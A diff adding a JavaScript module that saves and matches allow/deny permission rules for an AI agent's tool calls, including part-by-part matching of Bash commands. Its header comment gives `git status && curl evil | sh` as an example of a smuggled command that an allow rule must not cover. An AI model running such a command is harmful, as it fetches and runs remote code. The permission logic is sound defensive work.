@@ -0,0 +1,319 @@
+/**
+ * Permission Rules
+ *
+ * Saved "always allow" / "never allow" decisions for tool calls, stored in
+ * the vault at .parachute/permissions.json so they survive restarts and sync
+ * between devices. Rules are checked before an agent's own permissions:
+ * a matching deny rule blocks the call, a matching allow rule skips the
+ * approval prompt.
+ *
+ * A rule matches a tool call when every field it sets matches (globs, `*`
+ * matches anything):
+ *   { id, effect: 'allow' | 'deny', agent, tool, path?, command?, note?, createdAt }
+ *
+ * - agent:   agent path ('vault-agent' for the vault agent), default '*'
+ * - tool:    tool name, e.g. 'Write', 'Bash', 'mcp__github__*'
+ * - path:    vault-relative file path, for file tools
+ * - command: Bash command, e.g. 'git status', 'npm run *'
+ *
+ * Commands are compared part by part (see bash-policy's parseCommand), so
+ * an allow rule for `git *` covers `git log | git show` but not
+ * `git status && curl evil | sh`.
+ */
+
+import fs from 'fs/promises';
+import path from 'path';
+import { randomUUID } from 'crypto';
+import { BadRequestError } from './errors.js';
+import { parseCommand } from './bash-policy.js';
+
+/**
+ * Rules file, relative to the vault
+ */
+export const PERMISSION_RULES_FILE = path.join('.parachute', 'permissions.json');
+
+/**
+ * What a rule does with the calls it matches
+ */
+export const RuleEffect = {
+  ALLOW: 'allow',
+  DENY: 'deny'
+};
+
+const RULE_FIELDS = ['effect', 'agent', 'tool', 'path', 'command', 'note'];
+
+/**
+ * Match a value against a glob (`*` any run of characters, `?` one).
+ * Unlike matchesPatterns in agent-loader, every other character is literal,
+ * so commands with `|`, `(` or `$` match as written.
+ */
+export function matchesGlob(value, pattern) {
+  if (pattern === '*') return true;
+  const regex = pattern
+    .replace(/[.+^${}()|[\]\\]/g, '\\$&')
+    .replace(/\*/g, '.*')
+    .replace(/\?/g, '.');
+  return new RegExp(`^${regex}$`, 's').test(value);
+}
+
+/**
+ * Collapse whitespace so commands match regardless of spacing
+ */
+function normalizeCommand(command) {
+  return String(command).trim().replace(/\s+/g, ' ');
+}
+
+/**
+ * The simple commands in a command line, or null if it can't be parsed
+ */
+function commandParts(command) {
+  try {
+    return parseCommand(command).map(part => part.command);
+  } catch (e) {
+    return null;
+  }
+}
+
+/**
+ * Whether a rule's command pattern covers a command. A single-part pattern
+ * must match every part of the command; a compound one (`npm test && npm
+ * run build`) must match the command part for part. Deny rules match when
+ * any part, or the command as written, matches.
+ */
+function matchesCommand(command, pattern, effect) {
+  const normalized = normalizeCommand(command);
+  const parts = commandParts(normalized);
+  const patterns = commandParts(pattern) || [pattern];
+
+  if (effect === RuleEffect.DENY) {
+    return matchesGlob(normalized, pattern) ||
+      (patterns.length === 1 && (parts || []).some(part => matchesGlob(part, patterns[0])));
+  }
+  if (!parts || parts.length === 0) return false;
+  if (patterns.length === 1) {
+    return parts.every(part => matchesGlob(part, patterns[0]));
+  }
+  return parts.length === patterns.length && parts.every((part, i) => matchesGlob(part, patterns[i]));
+}
+
+/**
+ * Validate rule fields from a request
+ *
+ * @param {object} input - { effect, agent?, tool, path?, command?, note? }
+ * @returns {object} Rule fields (without id/createdAt)
+ * @throws {BadRequestError}
+ */
+export function normalizeRule(input) {
+  if (!input || typeof input !== 'object') {
+    throw new BadRequestError('Rule must be an object');
+  }
+  for (const field of RULE_FIELDS) {
+    const value = input[field];
+    if (value !== undefined && value !== null && typeof value !== 'string') {
+      throw new BadRequestError(`${field} must be a string`);
+    }
+  }
+  if (!Object.values(RuleEffect).includes(input.effect)) {
+    throw new BadRequestError(`effect must be one of: ${Object.values(RuleEffect).join(', ')}`);
+  }
+  if (!input.tool) {
+    throw new BadRequestError('tool is required');
+  }
+
+  return {
+    effect: input.effect,
+    agent: input.agent || '*',
+    tool: input.tool,
+    path: input.path || null,
+    command: input.command ? normalizeCommand(input.command) : null,
+    note: input.note || null
+  };
+}
+
+/**
+ * Rule fields that remember a decision on a permission request. `overrides`
+ * can widen it, e.g. { path: 'projects/*' } or { command: 'git *' }.
+ *
+ * @param {object} request - Pending permission request
+ * @param {string} effect - RuleEffect
+ * @param {object} overrides - Rule fields to use instead of the request's
+ * @returns {object} Rule fields for PermissionRules.add
+ */
+export function ruleFromRequest(request, effect, overrides = {}) {
+  const rule = {
+    effect,
+    agent: request.agentPath || 'vault-agent',
+    tool: request.toolName,
+    path: null,
+    command: null
+  };
+
+  if (request.mcpServer) {
+    // Remember the whole server, as "allow for session" does
+    rule.tool = `mcp__${request.mcpServer}__*`;
+  } else if (request.toolName === 'Bash') {
+    rule.command = request.input?.command || request.filePath || null;
+  } else {
+    rule.path = request.filePath || null;
+  }
+
+  return { ...rule, ...overrides, effect };
+}
+
+/**
+ * Vault-stored permission rules
+ */
+export class PermissionRules {
+  constructor(vaultPath) {
+    this.filePath = path.join(vaultPath, PERMISSION_RULES_FILE);
+    this.rules = [];
+    // mtime of the file when last read, to pick up hand edits
+    this.loadedMtimeMs = null;
+  }
+
+  /**
+   * Read rules from disk (a missing file means no rules)
+   */
+  async load() {
+    try {
+      const stats = await fs.stat(this.filePath);
+      const data = JSON.parse(await fs.readFile(this.filePath, 'utf-8'));
+      this.rules = Array.isArray(data.rules) ? data.rules.filter(r => r && r.id && r.effect && r.tool) : [];
+      this.loadedMtimeMs = stats.mtimeMs;
+      console.log(`[PermissionRules] Loaded ${this.rules.length} rules`);
+    } catch (e) {
+      if (e.code !== 'ENOENT') {
+        console.error(`[PermissionRules] Could not read ${this.filePath}:`, e.message);
+      }
+      this.rules = [];
+      this.loadedMtimeMs = null;
+    }
+  }
+
+  /**
+   * Reload if the file changed since it was read (edited by hand or synced)
+   */
+  async refresh() {
+    let mtimeMs = null;
+    try {
+      mtimeMs = (await fs.stat(this.filePath)).mtimeMs;
+    } catch (e) {
+      // No file
+    }
+    if (mtimeMs !== this.loadedMtimeMs) {
+      await this.load();
+    }
+  }
+
+  /**
+   * Write rules to disk
+   */
+  async save() {
+    await fs.mkdir(path.dirname(this.filePath), { recursive: true });
+    await fs.writeFile(this.filePath, JSON.stringify({ version: 1, rules: this.rules }, null, 2) + '\n', 'utf-8');
+    this.loadedMtimeMs = (await fs.stat(this.filePath)).mtimeMs;
+  }
+
+  /**
+   * List rules, optionally only those that can apply to an agent
+   *
+   * @param {object} filters - { agentPath, tool, effect }
+   * @returns {Array<object>}
+   */
+  list({ agentPath = null, tool = null, effect = null } = {}) {
+    return this.rules.filter(rule =>
+      (!agentPath || matchesGlob(agentPath, rule.agent)) &&
+      (!tool || matchesGlob(tool, rule.tool)) &&
+      (!effect || rule.effect === effect)
+    );
+  }
+
+  /**
+   * Get a rule by ID
+   */
+  get(id) {
+    return this.rules.find(rule => rule.id === id) || null;
+  }
+
+  /**
+   * Add a rule
+   *
+   * @param {object} input - See normalizeRule
+   * @returns {Promise<object>} The saved rule
+   * @throws {BadRequestError}
+   */
+  async add(input) {
+    const rule = { id: randomUUID(), ...normalizeRule(input), createdAt: new Date().toISOString() };
+    this.rules.push(rule);
+    await this.save();
+    console.log(`[PermissionRules] Added ${rule.effect} rule ${rule.id} (${rule.agent} ${rule.tool})`);
+    return rule;
+  }
+
+  /**
+   * Change a rule's fields
+   *
+   * @returns {Promise<object|null>} The updated rule, or null if not found
+   * @throws {BadRequestError}
+   */
+  async update(id, changes) {
+    const index = this.rules.findIndex(rule => rule.id === id);
+    if (index < 0) return null;
+
+    const current = this.rules[index];
+    const fields = Object.fromEntries(RULE_FIELDS.map(field => [field, current[field]]));
+    this.rules[index] = {
+      id,
+      ...normalizeRule({ ...fields, ...changes }),
+      createdAt: current.createdAt,
+      updatedAt: new Date().toISOString()
+    };
+    await this.save();
+    return this.rules[index];
+  }
+
+  /**
+   * Remove (revoke) a rule
+   *
+   * @returns {Promise<boolean>} Whether it existed
+   */
+  async remove(id) {
+    const index = this.rules.findIndex(rule => rule.id === id);
+    if (index < 0) return false;
+    this.rules.splice(index, 1);
+    await this.save();
+    console.log(`[PermissionRules] Removed rule ${id}`);
+    return true;
+  }
+
+  /**
+   * Whether a rule applies to a tool call
+   */
+  matches(rule, { agentPath, toolName, filePath = null, command = null }) {
+    if (!matchesGlob(agentPath || 'vault-agent', rule.agent || '*')) return false;
+    if (!matchesGlob(toolName, rule.tool)) return false;
+    if (rule.path && !(filePath && matchesGlob(filePath, rule.path))) return false;
+    if (rule.command && !(command && matchesCommand(command, rule.command, rule.effect))) return false;
+    return true;
+  }
+
+  /**
+   * Find the rule deciding a tool call. Deny rules win over allow rules.
+   *
+   * @param {object} call - { agentPath, toolName, filePath, command }
+   * @returns {object|null} The matching rule, or null if none applies
+   */
+  match(call) {
+    const matching = this.rules.filter(rule => this.matches(rule, call));
+    return matching.find(rule => rule.effect === RuleEffect.DENY) || matching[0] || null;
+  }
+}
+
+export default {
+  PERMISSION_RULES_FILE,
+  RuleEffect,
+  matchesGlob,
+  normalizeRule,
+  ruleFromRequest,
+  PermissionRules
+};